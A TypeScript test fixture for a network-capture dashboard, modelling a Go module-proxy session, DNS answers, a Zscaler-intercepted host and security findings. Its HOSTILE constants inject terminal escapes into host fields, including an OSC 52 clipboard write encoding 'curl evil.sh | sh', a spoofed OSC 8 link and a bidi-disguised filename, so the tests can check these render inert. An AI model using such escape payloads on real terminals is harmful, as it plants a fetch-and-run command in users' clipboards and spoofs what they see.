/**
 * ModelSnapshot fixtures for the dashboard tests: a Go session through proxy.golang.org,
 * sum.golang.org and goproxy.cn, a Zscaler-intercepted host, DNS answers, findings of every
 * severity, and hosts whose names, issuers and titles carry terminal escapes, OSC 8/52,
 * C1 controls and bidi overrides (all of which must come out inert).
 */
import type { Finding } from '../../src/detect/types.js';
import { findingOf, type FindingSpec } from '../events.js';
import type { HostSummary, ModelSnapshot } from '../../src/model/types.js';

const T0 = 1_763_759_895.9735;

/** ESC sequences a hostile capture could carry: clear screen, OSC 52 clipboard, OSC 8 link, C1 CSI, bidi override. */
export const HOSTILE = {
  clear: '\u001b[2J\u001b[H',
  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
  link: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  c1: '\u009b31m',
  bidi: '\u202egnp.exe',
};

export const hostileName = `evil${HOSTILE.clear}${HOSTILE.clipboard}.example${HOSTILE.c1}${HOSTILE.bidi}`;

function host(p: Partial<HostSummary> & Pick<HostSummary, 'key' | 'role' | 'roleLabel'>): HostSummary {
  return {
    names: [p.key],
    addresses: [],
    resolvers: [],
    nameSources: [],
    flows: 1,
    bytesUp: 0,
    bytesDown: 0,
    firstTs: T0,
    lastTs: T0,
    ports: [443],
    http: false,
    via: [],
    tls: { versions: [], alpn: [], ja4: [], sni: [] },
    dns: [],
    goRequests: {},
    processes: [],
    findings: [],
    ...p,
  };
}

export const findings: Finding[] = ([
  {
    id: 'policy-proxy-not-in-goproxy',
    severity: 'warn',
    title: 'GOPROXY=direct but proxy.golang.org was contacted 3 times',
    detail: 'A process that did not inherit your shell\'s GOPROXY asked proxy.golang.org for example.test/private.',
    host: 'proxy.golang.org',
    evidence: [
      { packet: 41, ts: T0 + 0.05, flowId: 3, what: 'ClientHello SNI proxy.golang.org' },
      { packet: 97, ts: T0 + 0.09, flowId: 5, what: 'ClientHello SNI proxy.golang.org' },
    ],
    fix: 'check `go env GOENV` and your editor\'s toolsEnvVars',
  },
  {
    id: 'tls-interception',
    severity: 'critical',
    title: 'TLS to goproxy.example.corp is intercepted by Zscaler',
    detail: 'The certificate chain was issued by Zscaler Root CA (O=Zscaler Inc.), which is not a public root.',
    host: 'goproxy.example.corp',
    evidence: [{ packet: 120, ts: T0 + 0.12, flowId: 7, what: 'Certificate issued by Zscaler Root CA' }],
    fix: 'set SSL_CERT_FILE to your corporate bundle or ask IT to exempt goproxy.example.corp',
  },
  {
    id: 'policy-sumdb-via-proxy',
    severity: 'info',
    title: 'checksum database reached through goproxy.cn (/supported answered 200)',
    detail: 'The go command asked goproxy.cn whether it proxies sum.golang.org and used it.',
    host: 'goproxy.cn',
    evidence: [{ packet: 150, ts: T0 + 0.15, flowId: 9, what: 'GET /sumdb/sum.golang.org/supported 200' }],
    fix: 'nothing to do',
  },
  {
    id: 'dns-unexpected-address',
    severity: 'warn',
    title: `DNS answer for ${hostileName} points to 10.0.0.66`,
    detail: `The resolver answered ${HOSTILE.link} with a private address.`,
    host: hostileName,
    evidence: [{ packet: 200, ts: T0 + 0.2, flowId: 11, what: `A ${HOSTILE.clear}` }],
    fix: `check your resolver ${HOSTILE.clipboard}`,
  },
  {
    id: 'tls-downgrade',
    severity: 'warn',
    title: 'sum.golang.org chose TLS 1.2 for a client offering TLS 1.3',
    detail: 'The server chose TLS 1.2 although the client offered TLS 1.3.',
    host: 'sum.golang.org',
    evidence: [{ packet: 60, ts: T0 + 0.06, flowId: 4, what: 'ServerHello chose TLS 1.2' }],
    fix: 'find the middlebox that terminates TLS',
  },
] satisfies FindingSpec[]).map(findingOf);

export const hosts: HostSummary[] = [
  host({
    key: 'proxy.golang.org',
    role: 'module-proxy',
    roleLabel: 'Go module proxy (Google)',
    addresses: ['127.0.0.2'],
    resolvers: ['127.0.0.53'],
    nameSources: [
      { source: 'dns', packet: 5 },
      { source: 'sni', packet: 12 },
    ],
    flows: 4,
    bytesUp: 4_210,
    bytesDown: 185_330,
    firstTs: T0 + 0.01,
    lastTs: T0 + 0.2,
    tls: { versions: ['TLS 1.3'], alpn: ['h2'], ja4: ['t13d1312h2_f57a46bbacb6_ab7e3b40a677'], sni: ['proxy.golang.org'] },
    certificate: {
      subject: 'CN=proxy.golang.org',
      issuer: 'CN=WE1, O=Google Trust Services, C=US',
      issuerOrg: 'Google Trust Services',
      notBefore: '2026-10-01T08:00:00.000Z',
      notAfter: '2026-12-30T08:00:00.000Z',
      fingerprint256: 'a1'.repeat(32),
      chainLength: 3,
      verdict: 'trusted',
      packet: 14,
    },
    dns: [
      { name: 'proxy.golang.org', addresses: ['127.0.0.2'], cnameChain: [], rcode: 'NOERROR', resolver: '127.0.0.53', ttl: 300, packet: 5 },
    ],
    goRequests: { list: 2, info: 3, mod: 4, zip: 4, latest: 1 },
    processes: ['go (pid 4121)'],
    findings: [0],
    worst: 'warn',
  }),
  host({
    key: 'sum.golang.org',
    role: 'checksum-db',
    roleLabel: 'Go checksum database',
    addresses: ['127.0.0.3'],
    resolvers: ['127.0.0.53'],
    nameSources: [{ source: 'sni', packet: 30 }],
    flows: 2,
    bytesUp: 1_900,
    bytesDown: 22_000,
    firstTs: T0 + 0.04,
    lastTs: T0 + 0.1,
    tls: { versions: ['TLS 1.2'], alpn: ['h2'], ja4: [], sni: ['sum.golang.org'] },
    dns: [{ name: 'sum.golang.org', addresses: ['127.0.0.3'], cnameChain: [], rcode: 'NOERROR', resolver: '127.0.0.53', ttl: 300, packet: 7 }],
    goRequests: { lookup: 3, tile: 5 },
    processes: ['go (pid 4121)'],
    findings: [4],
    worst: 'warn',
  }),
  host({
    key: 'goproxy.cn',
    role: 'mirror',
    roleLabel: 'Go module mirror (goproxy.cn)',
    addresses: ['127.0.0.4'],
    nameSources: [{ source: 'sni', packet: 140 }],
    flows: 1,
    bytesUp: 900,
    bytesDown: 3_100,
    firstTs: T0 + 0.14,
    lastTs: T0 + 0.16,
    tls: { versions: ['TLS 1.3'], alpn: ['h2'], ja4: [], sni: ['goproxy.cn'] },
    goRequests: { 'sumdb-supported': 1 },
    findings: [2],
    worst: 'info',
  }),
  host({
    key: 'goproxy.example.corp',
    role: 'mirror',
    roleLabel: 'configured mirror',
    names: ['goproxy.example.corp', 'artifactory.example.corp'],
    addresses: ['127.0.0.5'],
    nameSources: [{ source: 'sni', packet: 110 }],
    flows: 1,
    bytesUp: 700,
    bytesDown: 9_000,
    firstTs: T0 + 0.11,
    lastTs: T0 + 0.13,
    tls: { versions: ['TLS 1.2'], alpn: ['http/1.1'], ja4: [], sni: ['goproxy.example.corp'] },
    certificate: {
      subject: 'CN=goproxy.example.corp',
      issuer: 'CN=Zscaler Root CA, O=Zscaler Inc.',
      issuerOrg: 'Zscaler Inc.',
      notBefore: '2026-11-21T21:10:00.000Z',
      notAfter: '2026-11-28T21:10:00.000Z',
      fingerprint256: 'b2'.repeat(32),
      chainLength: 2,
      verdict: 'untrusted',
      interceptionProduct: 'Zscaler',
      packet: 120,
    },
    processes: ['gopls (pid 88)'],
    findings: [1],
    worst: 'critical',
  }),
  host({
    key: hostileName,
    role: 'other',
    roleLabel: `other ${HOSTILE.bidi}`,
    names: [hostileName, `x${HOSTILE.link}`],
    addresses: ['10.0.0.66'],
    nameSources: [{ source: 'dns', packet: 199 }],
    bytesUp: 10,
    bytesDown: 20,
    firstTs: T0 + 0.19,
    lastTs: T0 + 0.2,
    http: true,
    certificate: {
      subject: `CN=${HOSTILE.clear}`,
      issuer: `CN=${HOSTILE.clipboard}`,
      notBefore: '2026-11-21T00:00:00.000Z',
      notAfter: '2027-11-21T00:00:00.000Z',
      fingerprint256: 'c3'.repeat(32),
      chainLength: 1,
      verdict: 'untrusted',
      packet: 201,
    },
    dns: [{ name: hostileName, addresses: ['10.0.0.66'], cnameChain: [`a${HOSTILE.c1}`], rcode: 'NOERROR', resolver: '127.0.0.53', packet: 199 }],
    processes: [`curl${HOSTILE.clear} (pid 9)`],
    findings: [3],
    worst: 'warn',
  }),
  host({
    key: '127.0.0.53',
    role: 'resolver',
    roleLabel: 'DNS resolver',
    names: [],
    addresses: ['127.0.0.53'],
    ports: [53],
    flows: 12,
    bytesUp: 800,
    bytesDown: 1_600,
    firstTs: T0,
    lastTs: T0 + 0.19,
  }),
];

export function snapshot(over: Partial<ModelSnapshot['capture']> = {}): ModelSnapshot {
  return {
    capture: {
      source: 'captures/lab/clean/capture.pcap',
      format: 'pcap',
      packets: 289,
      bytes: 59_236,
      firstTs: T0,
      lastTs: T0 + 0.235,
      truncated: null,
      problems: { 'tcp: bad checksum': 2 },
      ended: false,
      ...over,
    },
    hosts,
    findings,
    timeline: [],
    timelineDropped: 0,
    overflow: { hostsFolded: 0, findingsDropped: 0 },
    counts: { flows: 21, tcpFlows: 9, udpFlows: 12, findingsBySeverity: { critical: 1, warn: 3, info: 1 } },
  };
}

/** A model that grows: each `advance()` adds packets (and now and then a host), like a live pipeline. */
export class GrowingSource {
  private n = 0;
  private done = false;
  private current: ModelSnapshot = snapshot({ packets: 0, bytes: 0 });
  snapshotCalls = 0;

  advance(): void {
    this.n++;
    const base = snapshot({ packets: this.n, bytes: this.n * 100, lastTs: T0 + this.n / 1000 });
    this.current = { ...base, hosts: hosts.slice(0, 1 + (this.n % hosts.length)) };
  }

  end(): void {
    this.done = true;
    this.current = { ...this.current, capture: { ...this.current.capture, ended: true } };
  }

  snapshot(): ModelSnapshot {
    this.snapshotCalls++;
    return this.current;
  }

  ended(): boolean {
    return this.done;
  }
}
